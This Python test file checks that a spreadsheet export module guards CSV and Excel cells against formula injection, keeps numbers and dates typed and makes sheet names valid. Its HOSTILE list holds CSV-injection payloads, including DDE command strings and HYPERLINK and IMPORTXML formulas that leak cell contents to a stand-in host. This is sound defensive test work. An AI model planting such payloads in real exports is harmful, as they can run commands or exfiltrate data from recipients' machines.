"""Exports: no cell of a CSV or Excel file we hand out can run as a formula, whatever text it
holds; numbers stay numbers, blanks stay blank, and every sheet name is one Excel accepts."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, datetime, timezone

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from analysis.exports import (
    GUARD,
    MAX_CELL_TEXT,
    MAX_SHEET_TITLE,
    MAX_WIDTH,
    MIN_WIDTH,
    needs_guard,
    safe_cell,
    sheet_titles,
    to_csv_bytes,
    to_xlsx_bytes,
)

# Payloads from CSV-injection write-ups: commands, links out, DDE, and each trigger on its own.
HOSTILE = [
    "=1+2",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for details")',
    "+1+1",
    "-2+3",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "  =1+2",
    "\n=1+2",
    "\uff1d1+2",  # full-width equals sign
    '=1+2";=1+2',
    "=IMPORTXML(CONCAT(\"http://example.invalid/?v=\", A1), \"//a\")",
]
HARMLESS = ["Larkspur Fictional Primary", "1+1", "a=b", "email@example.invalid", "", " ", "'quoted", "O'Brien-Smyth"]
FORBIDDEN_IN_TITLES = set("[]:*?/\\")


def _read_xlsx(data: bytes):
    return load_workbook(io.BytesIO(data))


def _read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "no byte-order mark: Excel would misread accents"
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def _as_stored_in_xlsx(text: str) -> str:
    """What an Excel file can hold of a text (the module docstring's rule)."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd", text)[:MAX_CELL_TEXT]


def _no_formula_parts(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[\s>/]", zf.read(name)), f"a formula element in {name}"


def _hostile_frame() -> pd.DataFrame:
    """Hostile text in the index, in every column header and in every row of every column."""
    n = len(HOSTILE)
    columns = {HOSTILE[i]: [HOSTILE[(i + r) % n] for r in range(n)] for i in range(n)}
    return pd.DataFrame(columns, index=pd.Index([HOSTILE[(r + 3) % n] for r in range(n)], name="=index"))


# --- the rule ---------------------------------------------------------------------------------

@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_guarded(text):
    assert needs_guard(text)
    assert safe_cell(text) == GUARD + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text):
    assert not needs_guard(text)
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [0, 7, -3, -2.5, 1e300, np.int64(-4), np.float64(-0.5), True, date(2026, 1, 2)])
def test_only_text_is_guarded(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("value", [None, float("nan"), np.nan, pd.NA, pd.NaT])
def test_missing_is_none_never_zero(value):
    assert safe_cell(value) is None


# --- CSV --------------------------------------------------------------------------------------

def test_csv_guards_hostile_text_in_every_position():
    frame = _hostile_frame()
    rows = _read_csv(to_csv_bytes(frame))
    expected = [["=index"] + list(frame.columns)] + [[i] + list(r) for i, r in zip(frame.index, frame.values.tolist())]
    assert len(rows) == len(expected)
    for got_row, want_row in zip(rows, expected):
        assert got_row == [GUARD + w for w in want_row]


def test_csv_keeps_numbers_numeric_and_blanks_blank():
    frame = pd.DataFrame({"school": ["Wrenfold Fictional Academy", "Brackley Fictional School", "Three"],
                          "count": [12, -3, None], "rate": [0.25, -1.5, np.nan], "zero": [0, 0, 0],
                          "when": [date(2026, 3, 31), None, date(2025, 12, 31)]})
    rows = _read_csv(to_csv_bytes(frame))
    assert rows[0] == ["school", "count", "rate", "zero", "when"]
    assert rows[1] == ["Wrenfold Fictional Academy", "12", "0.25", "0", "2026-03-31"]
    assert rows[2] == ["Brackley Fictional School", "-3", "-1.5", "0", ""]
    assert rows[3] == ["Three", "", "", "0", "2025-12-31"]
    raw = to_csv_bytes(frame).decode("utf-8-sig")
    assert "'-3" not in raw and ",-3," in raw  # a negative number is a number, not guarded text
    assert raw.endswith("\r\n") and "\r\n" in raw


def test_csv_quotes_separators_so_no_value_spills_into_the_next_cell():
    frame = pd.DataFrame({"a": ['=1+2";=1+2', "x,=1+1", "line\n=2+2"], "b": [1, 2, 3]})
    rows = _read_csv(to_csv_bytes(frame))
    assert [r[0] for r in rows[1:]] == ["'=1+2\";=1+2", "x,=1+1", "line\n=2+2"]
    assert all(len(r) == 2 for r in rows)


@settings(max_examples=150, deadline=None, derandomize=True, database=None)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=6))
def test_csv_no_field_can_start_a_formula(texts):
    rows = _read_csv(to_csv_bytes(pd.DataFrame({"text": texts, "n": range(len(texts))})))
    for original, (field, _) in zip(texts, rows[1:]):
        assert not (field[:1] in "=+-@\t\r" and field) and not needs_guard(field)
        assert field == (GUARD + original if needs_guard(original) else original)


# --- Excel ------------------------------------------------------------------------------------

def test_xlsx_writes_hostile_text_as_text_in_every_position():
    frame = _hostile_frame()
    data = to_xlsx_bytes({"=sheet": frame})
    _no_formula_parts(data)
    ws = _read_xlsx(data).worksheets[0]
    expected = [["=index"] + list(frame.columns)] + [[i] + list(r) for i, r in zip(frame.index, frame.values.tolist())]
    got = [[(c.value, c.data_type, c.quotePrefix) for c in row] for row in ws.iter_rows()]
    assert len(got) == len(expected)
    for got_row, want_row in zip(got, expected):
        assert [v for v, _, _ in got_row] == [_as_stored_in_xlsx(w) for w in want_row]
        assert {t for _, t, _ in got_row} == {"s"}
        assert all(quoted for _, _, quoted in got_row), "Excel's quote prefix keeps an edited cell text"


@settings(max_examples=60, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_xlsx_no_cell_is_ever_a_formula(texts):
    data = to_xlsx_bytes({"t": pd.DataFrame({"text": texts})})
    _no_formula_parts(data)
    ws = _read_xlsx(data)["t"]
    values = [c.value for (c,) in ws.iter_rows(min_row=2)]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    # openpyxl reads an empty text back as no cell at all: still blank, never 0
    assert [v or "" for v in values] + [""] * (len(texts) - len(values)) == [_as_stored_in_xlsx(t) for t in texts]


def test_xlsx_keeps_numbers_numeric_dates_dates_and_blanks_blank():
    frame = pd.DataFrame({
        "count": pd.array([12, -3, None], dtype="Int64"), "rate": [0.25, -1.5, np.nan],
        "zero": [0, 0, 0], "flag": [True, False, None],
        "when": [datetime(2026, 3, 31), pd.NaT, datetime(2025, 12, 31, 9, 30)],
        "infinite": [float("inf"), -float("inf"), 1.0],
    })
    ws = _read_xlsx(to_xlsx_bytes({"Numbers": frame}))["Numbers"]
    rows = [[c.value for c in row] for row in ws.iter_rows(min_row=2, max_col=6)]
    assert rows[0][:3] == [12, 0.25, 0] and rows[1][:3] == [-3, -1.5, 0]
    assert rows[2][:3] == [None, None, 0]
    assert [r[3] for r in rows] == [True, False, None]
    assert [r[4] for r in rows] == [datetime(2026, 3, 31), None, datetime(2025, 12, 31, 9, 30)]
    assert [r[5] for r in rows] == [None, None, 1]
    types = {c.data_type for row in ws.iter_rows(min_row=2, max_row=2, max_col=3) for c in row}
    assert types == {"n"}
    assert ws["E2"].is_date and ws["E2"].number_format == "dd/mm/yyyy"


def test_xlsx_header_is_bold_frozen_and_filtered_and_columns_sized():
    frame = pd.DataFrame({"urn": ["990001", "990002"], "a rather long column heading for a measure": [1, 2],
                          "notes": ["x" * 500, "short"]})
    ws = _read_xlsx(to_xlsx_bytes({"Schools": frame}))["Schools"]
    assert all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:C3"
    widths = [ws.column_dimensions[col].width for col in "ABC"]
    assert all(MIN_WIDTH <= w <= MAX_WIDTH for w in widths)
    assert widths[0] < widths[1] and widths[2] == MAX_WIDTH

    plain = _read_xlsx(to_xlsx_bytes({"Schools": frame}, freeze_header=False, autofilter=False))["Schools"]
    assert plain.freeze_panes is None and not plain.auto_filter.ref


def test_xlsx_text_excel_cannot_hold_is_made_safe_not_an_error():
    frame = pd.DataFrame({"text": ["bell\x07here", "=" + "y" * (MAX_CELL_TEXT + 10), "tab\tand\r\nbreak"]})
    ws = _read_xlsx(to_xlsx_bytes({"Odd": frame}))["Odd"]
    values = [c.value for (c,) in ws.iter_rows(min_row=2)]
    assert values[0] == "bell\ufffdhere"
    assert len(values[1]) == MAX_CELL_TEXT and ws["A3"].data_type == "s"
    assert values[2] == "tab\tand\nbreak"


def test_xlsx_timezones_and_odd_objects_do_not_break_the_export():
    frame = pd.DataFrame({"at": [pd.Timestamp("2026-01-05 10:00", tz="Europe/London"), pd.NaT],
                          "thing": [["=1", 2], {"k": "-v"}]})
    ws = _read_xlsx(to_xlsx_bytes({"Odd": frame}))["Odd"]
    assert ws["A2"].value == datetime(2026, 1, 5, 10, 0) and ws["A3"].value is None
    assert ws["B2"].data_type == "s" and ws["B2"].value == "['=1', 2]"
    csv_rows = _read_csv(to_csv_bytes(pd.DataFrame({"at": [datetime(2026, 1, 5, 10, tzinfo=timezone.utc)]})))
    assert csv_rows[1] == ["2026-01-05 10:00:00"]


def test_a_meaningful_index_is_kept_and_a_plain_one_is_not():
    counts = pd.DataFrame({"count": [3, 4]}, index=pd.Index(["990001", "990002"], name="urn"))
    assert _read_csv(to_csv_bytes(counts))[0] == ["urn", "count"]
    assert _read_csv(to_csv_bytes(counts.reset_index()))[0] == ["urn", "count"]
    ws = _read_xlsx(to_xlsx_bytes({"c": counts}))["c"]
    assert [c.value for c in ws[1]] == ["urn", "count"]


# --- sheet names ------------------------------------------------------------------------------

SHEET_NAMES = [
    "Schools", "schools", "SCHOOLS", "A name far longer than Excel's limit of thirty-one characters",
    "A name far longer than Excel's limit of thirty-one characters, again", "Gaps: [red]/amber*?\\",
    "", "   ", "'quoted'", "x" * 30 + "'y", "History", "=cmd|' /C calc'!A0", "Sheet", "Sheet (2)",
]


def _valid_titles(titles: list[str]) -> None:
    assert len({t.lower() for t in titles}) == len(titles)
    for t in titles:
        assert 1 <= len(t) <= MAX_SHEET_TITLE
        assert not FORBIDDEN_IN_TITLES & set(t)
        assert not t.startswith("'") and not t.endswith("'")
        assert t.lower() != "history"


def test_sheet_names_are_made_valid_and_unique():
    titles = sheet_titles(SHEET_NAMES)
    _valid_titles(titles)
    assert titles[0] == "Schools" and titles[1] != "schools"
    data = to_xlsx_bytes({name: pd.DataFrame({"n": [i]}) for i, name in enumerate(SHEET_NAMES)})
    wb = _read_xlsx(data)
    assert wb.sheetnames == titles
    assert [ws["A2"].value for ws in wb.worksheets] == list(range(len(SHEET_NAMES)))


@settings(max_examples=200, deadline=None, derandomize=True, database=None)
@given(st.lists(st.text(max_size=40), max_size=12))
def test_any_sheet_names_come_out_valid(names):
    titles = sheet_titles(names)
    assert len(titles) == len(names)
    _valid_titles(titles)


def test_an_empty_export_is_still_a_workbook_and_an_empty_frame_a_header():
    assert _read_xlsx(to_xlsx_bytes({})).sheetnames == ["Sheet1"]
    ws = _read_xlsx(to_xlsx_bytes({"Empty": pd.DataFrame({"urn": [], "count": []})}))["Empty"]
    assert [c.value for c in ws[1]] == ["urn", "count"] and ws.max_row == 1
    assert _read_csv(to_csv_bytes(pd.DataFrame({"urn": [], "count": []}))) == [["urn", "count"]]
